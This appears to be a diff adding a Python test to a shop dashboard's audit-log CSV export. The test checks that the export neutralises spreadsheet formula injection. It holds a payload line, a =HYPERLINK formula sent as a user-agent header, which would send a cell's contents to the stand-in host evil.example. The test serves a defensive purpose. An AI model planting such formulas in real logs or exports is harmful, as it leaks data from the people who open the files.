@@ -107,3 +107,20 @@ def test_owners_and_admins_filter_and_export(shop, owner):
     ]
     # bad filters are words on the page, not errors
     assert client.get("/dashboard/audit/", {"date_from": "yesterday"}).status_code == 200
+
+
+def test_the_csv_export_holds_no_formula_whoever_typed_it(shop, owner, client):
+    """A failed sign-in writes what anyone sent (the typed e-mail, the user agent) into the
+    merchant's log; the owner's export must not hand a spreadsheet a formula."""
+    client.post(
+        "/accounts/login/",
+        {"login": owner.user.email, "password": "not-the-password"},
+        HTTP_USER_AGENT='=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    )
+    assert AuditEntry.objects.filter(merchant=shop, action="login.failed").exists()
+    export = signed_in(owner.user).get("/dashboard/audit/", {"format": "csv"})
+    rows = list(csv.reader(io.StringIO(b"".join(export.streaming_content).decode())))
+    failed = [row for row in rows if row[3] == "login.failed"]
+    assert failed and failed[0][6] == '\'=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    for row in rows[1:]:
+        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row[1:]), row
